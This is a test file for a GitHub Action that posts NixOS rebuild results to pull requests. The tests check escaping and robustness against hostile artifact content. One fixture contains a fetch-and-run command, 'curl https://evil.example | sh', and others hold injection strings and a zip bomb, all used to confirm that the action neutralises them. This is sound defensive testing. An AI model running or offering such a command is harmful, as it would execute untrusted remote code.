import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runReport } from '../../../../src/action/report/report.js';
import { readMark } from '../../../../src/report/marker.js';
import { pullRequestEvent, runnerEnvironment, workflowRunEvent } from '../../../setup/github/events.js';
import { addArtifact, addComment } from '../../../setup/github/state.js';
import { zipOf } from '../../../setup/github/zip.js';
import { useLocalGitHub } from '../../github/local.js';
import { exampleFailure, exampleMetadata, successMetadata } from '../../report/example.js';
import { hostile, outsideCode } from '../../report/rendered.js';
import { type MemoryRunner, memoryRunner } from '../memory-runner.js';

const local = useLocalGitHub();
const head = { sha: 'a'.repeat(40), branch: 'fix', owner: 'stranger', repositoryId: 42 };
let dir = '';
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'report-'));
  local.api.state.pulls.push({ number: 5, ...head });
});
afterEach(() => rmSync(dir, { recursive: true }));

async function report(
  inputs: Record<string, string> = {},
  event: object = workflowRunEvent(),
): Promise<MemoryRunner> {
  const path = join(dir, 'event.json');
  writeFileSync(path, JSON.stringify(event));
  const env = { ...runnerEnvironment(dir), GITHUB_EVENT_PATH: path, GITHUB_API_URL: local.api.url };
  const runner = memoryRunner({ 'github-token': 'token', ...inputs }, env);
  expect(await runReport(runner)).toBe(0);
  return runner;
}
const artifact = (name: string, content: unknown, runId = 6) => {
  const text = typeof content === 'string' ? content : JSON.stringify(content);
  return addArtifact(
    local.api.state,
    runId,
    name,
    zipOf({ name: 'metadata.json', content: Buffer.from(text) }),
  );
};
const comments = () => local.api.state.comments.map(({ body }) => body);

describe('runReport', () => {
  it('joins the legs of a matrix into one comment, and changes that on the next push', async () => {
    artifact('rebuild-build-laptop-1', exampleMetadata());
    artifact('rebuild-build-web-1', { ...successMetadata(), host: 'web' });
    const runner = await report();
    expect(comments()).toHaveLength(1);
    expect(comments()[0]).toContain('❌ `laptop`');
    expect(comments()[0]).toContain('✅ `web`');
    expect(runner.outputs).toMatchObject({ success: 'false', 'failed-hosts': '["laptop"]' });
    expect(runner.summary).toContain('1 of 2 rebuilds did not succeed');
    local.api.state.artifacts.length = 0;
    artifact('rebuild-build-laptop-1', successMetadata(), 8);
    await report({}, workflowRunEvent({ id: 8 }));
    expect(comments()).toHaveLength(1);
    expect(comments()[0]).toContain('✅ The rebuild succeeded');
  });

  it.each(['success', 'skipped', 'neutral'])(
    'turns an earlier failure green after a run without rebuilds that ended with %s',
    async (conclusion) => {
      artifact('rebuild-build-laptop-1', exampleMetadata());
      await report();
      await report({}, workflowRunEvent({ id: 8, conclusion }));
      expect(comments()).toHaveLength(1);
      expect(comments()[0]).toContain('✅ Nothing had to be rebuilt');
      expect(readMark(comments()[0] ?? '')).toMatchObject({ runId: 8, failed: false });
    },
  );

  it.each([
    ['ended with failure', { conclusion: 'failure' }, () => {}],
    ['was cancelled', { conclusion: 'cancelled' }, () => {}],
    ['left results that cannot be read', {}, () => artifact('rebuild-build-laptop-1', '{', 8)],
    [
      'left results that cannot be listed',
      {},
      () => local.api.faults.push({ match: /runs\/8\/artifacts/, times: 99, answer: { status: 403 } }),
    ],
  ])('leaves an earlier failure as it is after a run that %s', async (_, run, add) => {
    artifact('rebuild-build-laptop-1', exampleMetadata());
    await report();
    const before = comments();
    add();
    await report({}, workflowRunEvent({ id: 8, conclusion: 'success', ...run }));
    expect(comments()).toEqual(before);
  });

  it('adds no comment for a run without rebuilds', async () => {
    await report({ comment: 'always' }, workflowRunEvent({ conclusion: 'success' }));
    expect(comments()).toEqual([]);
  });

  it('names the loss of the comment where the fork was deleted', async () => {
    artifact('rebuild-x-1', exampleMetadata());
    const runner = await report({}, workflowRunEvent({ head_repository: null }));
    expect(runner.log).toContain('no open pull request has this commit as its head');
    expect(runner.summary).toContain('1 of 1 rebuilds did not succeed');
    expect(runner.summary).not.toContain('Type this');
  });

  it('reads the last attempt of each leg, and neither pictures nor other artifacts', async () => {
    artifact('rebuild-build-laptop-1', exampleMetadata());
    artifact('rebuild-build-laptop-2', successMetadata());
    artifact('rebuild-build-laptop-2.png', 'png');
    artifact('coverage-1', exampleMetadata());
    artifact('rebuild-record.laptop.build.branch.release-25', 'a record');
    const runner = await report({ comment: 'always' });
    expect(runner.outputs.success).toBe('true');
    expect(comments()[0]).toContain('✅ The rebuild succeeded');
    expect(runner.summary).not.toContain('was not used');
  });

  it('removes the comments that the legs of this run wrote themselves, and no others', async () => {
    const mark = (run: number) => `<!-- nixos-rebuild-test comment=${'a'.repeat(32)} run=${run} -->\nleg`;
    addComment(local.api.state, { issue: 5, body: mark(6) });
    addComment(local.api.state, { issue: 5, body: mark(4) });
    addComment(local.api.state, { issue: 5, body: mark(6), type: 'User', login: 'mallory' });
    artifact('rebuild-build-laptop-1', exampleMetadata());
    await report();
    expect(comments().map((body) => readMark(body)?.runId)).toEqual([4, 6, 6]);
    expect(comments()[2]).toContain('❌ 1 of 1');
  });

  it('finds the pull request from the event, whatever an artifact claims', async () => {
    local.api.state.pulls.length = 0;
    local.api.state.pulls.push({ number: 99, ...head, sha: 'f'.repeat(40) });
    artifact('rebuild-x-1', { ...exampleMetadata(), pull_request: 99, number: 99 });
    const runner = await report();
    expect(comments()).toEqual([]);
    expect(runner.log).toContain('no open pull request has this commit as its head');
    expect(runner.summary).toContain('1 of 1 rebuilds did not succeed');
  });

  it.each([
    ['no zip', () => addArtifact(local.api.state, 6, 'rebuild-x-1', Buffer.from('hello'))],
    [
      'no metadata',
      () => addArtifact(local.api.state, 6, 'rebuild-x-1', zipOf({ name: 'x', content: Buffer.from('') })),
    ],
    ['no JSON', () => artifact('rebuild-x-1', '{')],
    ['another form', () => artifact('rebuild-x-1', { schema_version: 1, success: 'yes' })],
    ['a bomb', () => artifact('rebuild-x-1', '0'.repeat(50_000_000))],
    ['a version to come', () => artifact('rebuild-x-1', { ...exampleMetadata(), schema_version: 2 })],
  ])('names an artifact that is %s, and reports the others', async (_, add) => {
    add();
    artifact('rebuild-y-1', successMetadata());
    const runner = await report({ comment: 'always' });
    expect(runner.log).toContain('::notice title=nixos-rebuild-test::The artifact rebuild-x-1 was not used');
    expect(comments()[0]).toContain('✅ The rebuild succeeded');
    expect(comments()[0]).toContain('rebuild\\-x\\-1 was not used');
  });

  it('counts contradictory metadata as no success', async () => {
    artifact('rebuild-x-1', exampleMetadata({ success: true }));
    expect((await report()).outputs.success).toBe('false');
  });

  it('escapes hostile text from artifacts, and executes no command in it', async () => {
    const failure = exampleFailure({ message: hostile, hint: hostile, log_tail: [hostile] });
    artifact(
      'rebuild-::error::x @octocat-1',
      exampleMetadata({ host: hostile, failure, failures: [failure] }),
    );
    artifact('rebuild-<b>-1', '{');
    const runner = await report();
    expect(runner.log.split('\n').filter((line) => /^::(?!notice )|##\[/.test(line))).toEqual([]);
    expect(outsideCode(comments()[0] ?? '')).not.toMatch(/<(script|b)\b|href="[^"]*evil|@\w|#\d/);
  });

  it('shows a fork’s failure without its advice and links', async () => {
    const failure = exampleFailure({ hint: 'Type this.', reproduce: 'curl https://evil.example | sh' });
    artifact('rebuild-x-1', exampleMetadata({ failure, failures: [failure] }));
    await report();
    expect(comments()[0]).toContain('no acceptable C compiler');
    expect(comments()[0]).not.toMatch(/Type this|evil|nixos-rebuild build|NixOS\/nixpkgs/);
    const event = workflowRunEvent();
    local.api.state.pulls[0]!.repositoryId = event.repository.id;
    const own = { ...event.workflow_run.head_repository, id: event.repository.id };
    await report({}, { ...event, workflow_run: { ...event.workflow_run, head_repository: own } });
    expect(comments()[0]).toContain('Type this');
  });

  it('does not link a place in another repository that a leg had checked out', async () => {
    const revision = { sha: 'e'.repeat(40), branch: null, dirty: false };
    const place = '[`hosts/laptop.nix:12`](';
    artifact(
      'rebuild-x-1',
      exampleMetadata({ revision: { ...revision, repository: 'http://github.localhost/O/r' } }),
    );
    await report();
    expect(comments()[0]).toContain(place);
    artifact(
      'rebuild-x-2',
      exampleMetadata({ revision: { ...revision, repository: 'https://github.com/x/y' } }),
    );
    await report();
    expect(comments()[0]).toContain('`hosts/laptop.nix:12`');
    expect(comments()[0]).not.toContain(place);
  });

  it('names two legs for one host by their artifacts', async () => {
    artifact('rebuild-build-laptop-1', exampleMetadata());
    artifact('rebuild-check-laptop-1', exampleMetadata());
    await report();
    expect(comments()[0]).toContain('`rebuild-build-laptop-1`');
    expect(comments()[0]).toContain('`rebuild-check-laptop-1`');
  });

  it('leaves out the comment where it may not write, and adds a notice', async () => {
    local.api.permissions = { issues: 'read' };
    artifact('rebuild-x-1', exampleMetadata());
    const runner = await report();
    expect(runner.log).toContain('Add `pull-requests: write`');
    expect(runner.summary).toContain('1 of 1 rebuilds did not succeed');
  });

  it('does not comment for a push, nor without any result', async () => {
    await report();
    const event = workflowRunEvent();
    artifact('rebuild-x-1', exampleMetadata());
    await report({}, { ...event, workflow_run: { ...event.workflow_run, event: 'push' } });
    expect(comments()).toEqual([]);
  });

  it('reports in a job after the legs, and turns the comment green when such a job rebuilt nothing', async () => {
    artifact('rebuild-build-laptop-1', exampleMetadata(), 7);
    const runner = await report({}, pullRequestEvent());
    expect(runner.outputs['failed-hosts']).toBe('["laptop"]');
    expect(comments()).toEqual([expect.stringContaining('❌ 1 of 1')]);
    local.api.state.artifacts.length = 0;
    await report({ conclusion: 'failure' }, pullRequestEvent());
    expect(comments()).toEqual([expect.stringContaining('❌ 1 of 1')]);
    await report({ conclusion: 'skipped' }, pullRequestEvent());
    expect(comments()).toEqual([expect.stringContaining('✅ Nothing had to be rebuilt')]);
  });

  it('comments on the pull request that the inputs name, whatever the event', async () => {
    artifact('rebuild-build-laptop-1', exampleMetadata(), 7);
    await report({ number: '9', repository: 'else/where' }, { merge_group: {} });
    expect(local.api.state.comments.map(({ issue }) => issue)).toEqual([9]);
    expect(local.api.requests).toContainEqual(
      expect.stringContaining('POST /repos/else/where/issues/9/comments'),
    );
    expect(local.api.requests).toContainEqual(
      expect.stringContaining('GET /repos/o/r/actions/runs/7/artifacts'),
    );
  });

  it('adds a comment for each run and hides the one before, where that is wanted', async () => {
    artifact('rebuild-x-1', exampleMetadata());
    artifact('rebuild-x-1', exampleMetadata(), 8);
    await report({ 'hide-outdated': 'true' });
    await report({ 'hide-outdated': 'true' }, workflowRunEvent({ id: 8 }));
    expect(local.api.state.comments.map(({ isMinimized }) => isMinimized)).toEqual([true, false]);
  });
});
